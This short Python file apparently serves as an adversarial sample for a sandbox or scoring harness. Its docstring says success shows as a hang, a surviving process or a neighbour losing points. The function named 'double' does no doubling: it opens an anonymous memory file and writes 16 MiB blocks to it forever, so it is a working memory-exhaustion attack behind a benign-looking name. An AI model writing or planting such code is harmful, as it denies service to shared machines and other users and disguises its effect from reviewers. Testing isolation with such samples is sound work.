"""Takes memory in a file without a name.

Success would show as a hang, a survivor, or a neighbour that loses points.
"""

EARNS = 0

import os


def double(x):
    descriptor = os.memfd_create("hoard")
    while True:
        os.write(descriptor, b"x" * (16 << 20))
